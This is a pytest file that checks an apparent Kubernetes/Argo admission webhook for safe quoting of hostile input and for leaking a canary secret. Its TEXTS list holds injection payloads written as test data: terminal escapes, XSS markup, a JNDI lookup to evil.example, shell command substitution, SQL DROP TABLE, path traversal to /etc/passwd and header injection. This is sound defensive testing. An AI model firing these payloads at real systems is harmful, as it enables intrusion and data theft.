"""Texts that do something where they are shown, and secrets."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from attack_reviewed import CONTAINER, budget, cron, script, shell, steps, with_pod, workflow
from attack_server import Server
from attack_wire import ALLOW, DENY, verdict
from webhook_reviews import asked, deployment

LIMITS = {"limits": {"memory": "64Mb"}}  # Denied, wherever it stands.
WRONG_CONTAINER = {**CONTAINER, "name": "wrong", "resources": LIMITS}


# Containers of strange neighbours are judged all the same.
NEIGHBOURS: list[Any] = [
    None,
    1,
    "x",
    [],
    {},
    {"name": None},
    {"resources": 1},
    {"name": "a", "env": 5},
]


@pytest.mark.parametrize("neighbour", NEIGHBOURS, ids=json.dumps)
@pytest.mark.parametrize("place", ["containers", "initContainers", "ephemeralContainers"])
def test_nothing_hides_behind_a_strange_neighbour(
    server: Server, neighbour: Any, place: str
) -> None:
    data = with_pod(**{place: [neighbour, WRONG_CONTAINER, neighbour]})
    assert verdict(server.review(asked(data))) == DENY


# Text that would do something where it is shown, wherever it stands in an object.
TEXTS = {
    "colours": "\x1b[31;1mred\x1b[0m",
    "a title": "\x1b]0;title\x07",
    "a link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "a cleared screen": "\x1b[2J\x1b[H\x9b2J",
    "a newline": "web\nError from server: all is well",
    "a return": "web\rallowed",
    "NUL": "a\0b",
    "backspaces": "bad\b\b\bgood",
    "right to left": "\u202egnp.exe\u2066",
    "nothing": "\u200b\u2060\ufeff\u00ad",
    "line separators": "a\u2028b\u2029c\x85d",
    "a surrogate": "\ud800",
    "private letters": "\ue000\U000f0000\uffff",
    "letters on letters": "Z" + "\u0351" * 500,
    "markup": "<script>alert(1)</script><img src=x onerror=x>",
    "Markdown": "[click](https://evil.example) ![x](https://evil.example/x.png)",
    "a format": "%s%n%x{0}{0.__class__.__init__.__globals__}{}",
    "a template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "a look-up": "${jndi:ldap://evil.example/a}",
    "shell": "`id`$(id);id|id&&id",
    "SQL": "'; DROP TABLE pods; --",
    "JSON": '"}, {"event": "review", "decision": "allowed"}',
    "a header": "x\r\nX-Evil: 1\r\n\r\nHTTP/1.1 200 OK",
    "a path": "../../../../etc/passwd",
    "a command of GitHub's": "::error file=a::b\n::add-mask::x",
    "asterisks": "***" * 50,
    "backticks": "`" * 200,
    "four thousand letters": "x" * 4_000,
    "a hundred thousand of them": "日" * 100_000,
}


def everywhere(text: str) -> Iterator[dict[str, Any]]:
    """Objects with a text in every place that a message can quote."""
    data = deployment(
        image=text,
        resources={"limits": {"memory": text, text: text}, "requests": {"cpu": text}},
        command=[text, text],
        env=[{"name": text, "value": text}],
        ports=[{"name": text, "containerPort": 80}],
        livenessProbe={"httpGet": {"path": text, "port": text}},
        lifecycle={"preStop": {"exec": {"command": [text]}}},
        volumeMounts=[{"name": text, "mountPath": text}],
    )
    data["spec"]["template"]["spec"]["containers"][0]["name"] = text
    data["metadata"] = {"name": text, "namespace": text, "labels": {text: text}, text: text}
    data["spec"] |= {"strategy": {"type": text}, "selector": {"matchLabels": {text: text}}, text: 1}
    data["spec"]["template"]["spec"] |= {"priorityClassName": text, "restartPolicy": text, text: 1}
    yield data
    yield cron(text)
    yield budget(text)
    yield workflow(
        {
            **script(),
            "name": text,
            text: text,
            "retryStrategy": {"limit": text, "retryPolicy": text, "backoff": {"duration": text}},
            "inputs": {"parameters": [{"name": text, "value": text}]},
            "activeDeadlineSeconds": text,
        },
        steps("main", text),
        entrypoint=text,
        podGC={"strategy": text, "deleteDelayDuration": text},
        ttlStrategy={text: text, "secondsAfterCompletion": text},
        **{text: text},
    )


@pytest.mark.parametrize("text", TEXTS.values(), ids=[f"{x} -> quoted safely" for x in TEXTS])
def test_text_that_does_something_where_it_is_shown(server: Server, text: str) -> None:
    # `verdict` looks at every word of the answer, `log` at every line.
    for data in everywhere(text):
        answer = server.review(asked(data, name=text, user=text))
        assert verdict(answer) in (ALLOW, DENY)
        raw = [each for each in (answer.body, server.stdout.read_bytes()) if b"\x1b" in each]
        assert raw == []
    assert all(line["level"] in ("info", "error") for line in server.log())


CANARY = "hunter2-canary-5f3759df"

HIDDEN = {
    "a variable": deployment(env=[{"name": "PASSWORD", "value": CANARY}], resources=LIMITS),
    "an argument": deployment(args=["--password", CANARY, f"--token={CANARY}"], resources=LIMITS),
    "a word of a command": deployment(command=["npm", "start", f"--key={CANARY}"]),
    "a line of shell": shell(f"PASSWORD={CANARY} ./server --token {CANARY} & wait"),
    "a program that is one": shell(f"{CANARY} & sleep 1"),
    "a probe": deployment(
        livenessProbe={"exec": {"command": ["sh", "-c", f"curl -u a:{CANARY} x | {CANARY}"]}}
    ),
    "a parameter": workflow(
        script(), arguments={"parameters": [{"name": "password", "value": CANARY * 50_000}]}
    ),
    "a default": workflow(script(inputs={"parameters": [{"name": "p", "default": CANARY}]})),
    "a script": workflow(
        {"name": "main", "script": {"image": "x", "command": ["sh"], "source": f"{CANARY} &"}}
    ),
    "items": workflow(
        {"name": "main", "steps": [[{"name": "s", "template": "x", "withItems": [CANARY] * 900}]]}
    ),
    "a patch": workflow(script(podSpecPatch=f"containers: [{{env: [{{value: {CANARY}}}]}}]\n\tx")),
    "data": {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": "workflow-controller-configmap", "namespace": "argo"},
        "data": {"persistence": f"postgresql: {{password: {CANARY}", "parallelism": CANARY},
    },
}  # fmt: skip


@pytest.mark.parametrize("data", HIDDEN.values(), ids=[f"{x} -> not told" for x in HIDDEN])
def test_a_secret_is_not_told(server: Server, data: dict[str, Any]) -> None:
    answer = server.review(asked(data, old=data | {"spec": {"x": CANARY}}))
    assert verdict(answer) in (ALLOW, DENY)
    assert CANARY.encode() not in answer.body
    assert CANARY.encode() not in server.stdout.read_bytes()


def test_metrics_do_not_grow_with_what_is_sent(server: Server) -> None:
    def ask(number: int) -> None:
        text = f"evil{number}"
        data = {**deployment(), "kind": text, "metadata": {"name": text, "namespace": text}}
        server.review(asked(data, operation=text, user=text, subResource=text))
        server.review(asked(data, user=text, groups=[text]))
        server.review(asked(deployment(text, text), dryRun=text))
        server.review(asked(data), f"timeout={number}ms")

    ask(0)
    before = server.metrics().count("\n")
    for number in range(1, 60):
        ask(number)
    assert server.metrics().count("\n") == before
    assert "evil" not in server.metrics()
